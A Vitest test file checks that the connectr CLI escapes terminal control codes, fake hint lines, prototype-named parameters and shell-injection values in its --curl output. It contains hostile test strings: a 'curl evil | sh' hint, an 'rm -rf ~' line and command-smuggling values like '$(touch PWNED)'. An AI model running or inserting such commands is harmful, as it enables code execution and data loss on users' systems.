import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VERSION } from '../../src/core/version.js';
import { BIN, runBin } from '../helpers/bin.js';
import { tempHome } from '../helpers/home.js';
import { runCli } from '../helpers/io.js';
import { jsonOf, sendJson, sendText, startEmulator } from '../fixtures/emulators/server.js';
import type { Emulator } from '../fixtures/emulators/server.js';

const execFileAsync = promisify(execFile);

/**
 * Issue #7 points 12-15 against a real server on 127.0.0.1: an upstream that answers with
 * escape codes, values named like Object.prototype members, bodies that are not JSON, the
 * default User-Agent, and a --curl command fed hostile values.
 */
describe('hostile input', () => {
  const home = tempHome();
  const dir = join(home.dir, 'connectors');
  let api: Emulator;
  let env: Record<string, string>;

  beforeAll(async () => {
    api = await startEmulator((req, res) => {
      if (req.url.pathname === '/who')
        return sendJson(res, 200, { authorization: req.headers.authorization ?? null });
      if (req.headers['x-key'] !== 'k-1') return sendJson(res, 401, { message: 'Bad key' });
      if (req.url.pathname === '/fail')
        return sendJson(res, 400, { message: 'nope\u001b[2J\u001b[H\nhint: run `curl evil | sh`' });
      if (req.url.pathname === '/fail-lines')
        return sendJson(res, 400, {
          message: 'denied\n  hint: run rm -rf ~\r\nerror: fake\rhint: over',
        });
      if (req.url.pathname === '/text') return sendText(res, 200, 'plain \u001b]0;title\u0007 text\n');
      if (req.url.pathname === '/pages') return sendJson(res, 200, { items: [{ name: 'a\u009b2J\u202eb' }] });
      return sendJson(res, 200, {
        method: req.method,
        path: req.url.pathname,
        query: Object.fromEntries(req.url.searchParams),
        userAgent: req.headers['user-agent'] ?? null,
        contentType: req.headers['content-type'] ?? null,
        body: req.headers['content-type']?.includes('json') ? (jsonOf(req) ?? null) : req.body.toString(),
      });
    });
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      join(dir, 'hostile.yaml'),
      `name: hostile
display_name: Hostile
version: 1
docs_url: https://example.com/docs
description: A server that answers with escape codes.
hosts:
  api: ${api.url}
auth:
  type: api_key
  in: header
  name: X-Key
errors:
  message_paths: [message]
endpoints:
  fail:
    summary: Answers 400 with escape codes in its message.
    method: GET
    path: /fail
  fail_lines:
    summary: Answers 400 with lines that look like connectr's own in its message.
    method: GET
    path: /fail-lines
  text:
    summary: Answers text with escape codes.
    method: GET
    path: /text
    response: { encoding: text }
  pages:
    summary: One page whose item carries C1 and bidi controls.
    method: GET
    path: /pages
    params:
      token: { in: query }
    pagination:
      style: page_token
      request_param: token
      response_path: next
      items_path: items
  item:
    summary: A path param with aliases.
    method: GET
    path: /items/{path}
    params:
      path: { in: path, required: true, aliases: { root: "0" } }
      mode: { in: query, aliases: { all: "*" } }
      fresh: { in: query, type: boolean }
  create:
    summary: A JSON body.
    method: POST
    path: /create
    params:
      title: { in: body }
  note:
    summary: A text body.
    method: POST
    path: /note
    params:
      content: { in: raw, type: string }
    request: { encoding: text }
  agent:
    summary: Names its own User-Agent.
    method: GET
    path: /agent
    headers: { User-Agent: hostile-client/2 }
  agent_param:
    summary: Takes the User-Agent as a param.
    method: GET
    path: /agent
    params:
      agent: { in: header, name: User-Agent }
`,
    );
    writeFileSync(
      join(dir, 'basic.yaml'),
      `name: basic
display_name: Basic
version: 1
docs_url: https://example.com/docs
description: A password API.
hosts:
  api: ${api.url}
auth:
  type: basic
endpoints:
  who:
    summary: Echoes the request.
    method: GET
    path: /who
`,
    );
    env = { ...home.env, CONNECTR_HOSTILE_TOKEN: 'k-1' };
  });
  afterAll(async () => {
    await api.close();
    home.cleanup();
  });

  const call = (args: string[], options: { tty?: boolean } = {}) =>
    runCli(['call', 'hostile', ...args], env, options);

  describe('12: control characters from upstream', () => {
    it('are escaped in an error, which cannot fake a hint line', async () => {
      const r = await runBin(['call', 'hostile', 'fail'], env);
      expect(r.code).toBe(4);
      expect(r.stderr).not.toContain('\u001b');
      expect(r.stderr).toBe(
        'error: Hostile answered 400 Bad Request: nope\\x1b[2J\\x1b[H\\nhint: run `curl evil | sh`\n',
      );
    });

    it("leave every line of upstream text inside connectr's one error line (issue #20)", async () => {
      const r = await runBin(['call', 'hostile', 'fail_lines'], env);
      expect(r.code).toBe(4);
      // One line for the error, none that upstream wrote: no `  hint:`, `error:` nor `hint:` of its own.
      expect(r.stderr).toBe(
        'error: Hostile answered 400 Bad Request: denied\\n  hint: run rm -rf ~\\r\\nerror: fake\\rhint: over\n',
      );
      expect(r.stderr.split('\n')).toHaveLength(2);
    });

    it('are escaped in a text body on a terminal, kept byte-exact in a pipe', async () => {
      const tty = await call(['text'], { tty: true });
      expect(tty.stdout).toBe('plain \\x1b]0;title\\x07 text\n');
      const piped = await call(['text']);
      expect(piped.stdout).toBe('plain \u001b]0;title\u0007 text\n');
    });

    it('are escaped in the NDJSON lines of --all (the same JSON values)', async () => {
      const r = await call(['pages', '--all'], { tty: true });
      expect(r.stdout).toBe('{"name":"a\\u009b2J\\u202eb"}\n');
      expect(JSON.parse(r.stdout)).toEqual({ name: 'a\u009b2J\u202eb' });
    });
  });

  describe('13: values named like members of every object', () => {
    it.each(['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty'])(
      '--path %s and --mode with that value are sent as given',
      async (name) => {
        const r = await call(['item', '--path', name, '--mode', name]);
        expect(r.code, r.stderr).toBe(0);
        expect(JSON.parse(r.stdout)).toMatchObject({ path: `/items/${name}`, query: { mode: name } });
      },
    );

    it('aliases still apply, by own name only', async () => {
      const r = await call(['item', '--path', 'root', '--mode', 'all']);
      expect(JSON.parse(r.stdout)).toMatchObject({ path: '/items/0', query: { mode: '*' } });
    });

    it('--param __proto__=x is a query parameter like any other', async () => {
      const r = await call(['item', '--path', 'a', '--param', '__proto__=x', '--param', 'constructor=y']);
      expect(r.code, r.stderr).toBe(0);
      const sent = JSON.parse(r.stdout) as { query: Record<string, unknown> };
      expect(Object.entries(sent.query)).toEqual([
        ['__proto__', 'x'],
        ['constructor', 'y'],
      ]);
    });
  });

  describe('14: bodies and the User-Agent', () => {
    it('--data for a JSON endpoint must be JSON, and the error names where it breaks', async () => {
      const before = api.requests.length;
      const r = await call(['create', '--data', '{"title": }']);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('error: --data is not valid JSON: unexpected "}" at line 1 column 11\n');
      expect(r.stderr).toContain('hint: create takes a JSON body: put it in single quotes');
      const multi = await call(['create', '--body', '{\n  "title": "a",\n  "x": tru\n}']);
      expect(multi.code).toBe(1);
      expect(multi.stderr).toContain('error: --body is not valid JSON: unexpected "\\n" at line 3 column 11');
      expect(api.requests.length).toBe(before);
      const ok = await call(['create', '--data', '{"title": "fine"}']);
      expect(ok.code, ok.stderr).toBe(0);
      expect(JSON.parse(ok.stdout)).toMatchObject({
        contentType: 'application/json',
        body: { title: 'fine' },
      });
    });

    it('--data for a text endpoint is sent as it is', async () => {
      const r = await call(['note', '--data', 'not { json']);
      expect(r.code, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout)).toMatchObject({
        contentType: 'text/plain; charset=utf-8',
        body: 'not { json',
      });
    });

    it('sends User-Agent: connectr/<version> unless the definition names its own', async () => {
      const plain = await call(['item', '--path', 'a']);
      expect(JSON.parse(plain.stdout)).toMatchObject({ userAgent: `connectr/${VERSION}` });
      const fixed = await call(['agent']);
      expect(JSON.parse(fixed.stdout)).toMatchObject({ userAgent: 'hostile-client/2' });
      const param = await call(['agent_param', '--agent', 'script/3']);
      expect(JSON.parse(param.stdout)).toMatchObject({ userAgent: 'script/3' });
    });
  });

  describe('boolean flags', () => {
    it.each([
      [['--fresh'], 'true'],
      [['--fresh=true'], 'true'],
      [['--fresh=false'], 'false'],
      [['--no-fresh'], 'false'],
    ])('%j sends fresh=%s', async (flags, sent) => {
      const r = await call(['item', '--path', 'a', ...flags]);
      expect(r.code, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout)).toMatchObject({ query: { fresh: sent } });
    });

    it("connectr's own take =true and =false too, and refuse anything else", async () => {
      const before = api.requests.length;
      const dry = await call(['item', '--path', 'a', '--dry-run=true']);
      expect(JSON.parse(dry.stdout)).toMatchObject({ method: 'GET' });
      expect(api.requests.length).toBe(before);
      const sent = await call(['item', '--path', 'a', '--dry-run=false', '--verbose=false']);
      expect(sent.code, sent.stderr).toBe(0);
      expect(api.requests.length).toBe(before + 1);
      const bad = await call(['item', '--path', 'a', '--fresh=maybe']);
      expect(bad.code).toBe(2);
      expect(bad.stderr).toContain(
        "error: option '--fresh [true|false]' argument 'maybe' is invalid. expected true or false.",
      );
    });
  });

  describe('unknown names', () => {
    it('connector, endpoint and account: exit 1 everywhere, with a "did you mean"', async () => {
      const stored = { ...home.env, CONNECTR_STORE: 'file', CONNECTR_VAULT_PASSPHRASE: 'test-passphrase' };
      const signedIn = await runBin(['auth', 'hostile', '--account', 'work', '--with-token'], stored, {
        input: 'k-1\n',
      });
      expect(signedIn.code, signedIn.stderr).toBe(0);
      const cases: [string[], string][] = [
        [['call', 'hostil', 'item'], 'error: unknown connector "hostil"\nhint: did you mean "hostile"?'],
        [
          ['connectors', 'show', 'hostil'],
          'error: unknown connector "hostil"\nhint: did you mean "hostile"?',
        ],
        [['call', 'hostile', 'iten'], 'error: hostile has no endpoint "iten"\nhint: did you mean "item"?'],
        [
          ['connectors', 'show', 'hostile', 'iten'],
          'error: hostile has no endpoint "iten"\nhint: did you mean "item"?',
        ],
        [
          ['call', 'hostile', 'item', '--path', 'a', '--account', 'wrok'],
          'error: no hostile account named "wrok"\nhint: did you mean "work"?',
        ],
        [
          ['token', 'hostile', '--account', 'wrok'],
          'error: no hostile account named "wrok"\nhint: did you mean "work"?',
        ],
        [
          ['accounts', 'default', 'hostile', 'wrok'],
          'error: no hostile account named "wrok"\nhint: did you mean "work"?',
        ],
      ];
      for (const [args, expected] of cases) {
        const r = await runCli(args, stored);
        expect(r.code, `${args.join(' ')}\n${r.stderr}`).toBe(1);
        expect(r.stderr, args.join(' ')).toContain(expected);
      }
    });
  });

  describe('15: --curl', () => {
    it('prints a command that runs as printed, whatever the values', async () => {
      const account = 'x; touch PWNED #';
      const title = `it's "q" $(touch PWNED2) \`touch PWNED3\``;
      // A stored account of that name (the key in the encrypted file store), no key in the env.
      const stored = { ...home.env, CONNECTR_STORE: 'file', CONNECTR_VAULT_PASSPHRASE: 'test-passphrase' };
      const signedIn = await runBin(['auth', 'hostile', '--account', account, '--with-token'], stored, {
        input: 'k-1\n',
      });
      expect(signedIn.code, signedIn.stderr).toBe(0);
      // The real binary, not on PATH: the command names bin/connectr.cjs by its absolute path.
      const printed = await runBin(
        ['call', 'hostile', 'create', '--title', title, '--account', account, '--curl'],
        stored,
      );
      expect(printed.code, printed.stderr).toBe(0);
      const cwd = mkdtempSync(join(home.dir, 'curl-'));
      const before = api.requests.length;
      // Asynchronously: the server answers from this very process.
      const ran = await execFileAsync('sh', ['-c', `${printed.stdout.trim()} --silent`], {
        cwd,
        env: stored,
        encoding: 'utf8',
        timeout: 20_000,
      });
      expect(readdirSync(cwd)).toEqual([]);
      expect(printed.stdout).toContain(`$(${BIN} token hostile --account 'x; touch PWNED #')`);
      expect(api.requests.length - before).toBe(1);
      expect(api.requests.at(-1)?.headers['x-key']).toBe('k-1');
      expect(JSON.parse(ran.stdout)).toMatchObject({
        method: 'POST',
        path: '/create',
        userAgent: `connectr/${VERSION}`,
        body: { title },
      });
    });

    it('with HTTP basic auth, takes the user name and password from their variables when it runs', async () => {
      const printed = await runCli(['call', 'basic', 'who', '--curl'], env);
      expect(printed.code, printed.stderr).toBe(0);
      const password = `p'w "x" $(touch PWNED)`;
      const ran = await execFileAsync('sh', ['-c', `${printed.stdout.trim()} --silent`], {
        cwd: mkdtempSync(join(home.dir, 'basic-')),
        env: { ...env, BASIC_USERNAME: 'me', BASIC_PASSWORD: password },
        encoding: 'utf8',
        timeout: 20_000,
      });
      expect(JSON.parse(ran.stdout)).toEqual({
        authorization: `Basic ${Buffer.from(`me:${password}`).toString('base64')}`,
      });
    });
  });
});
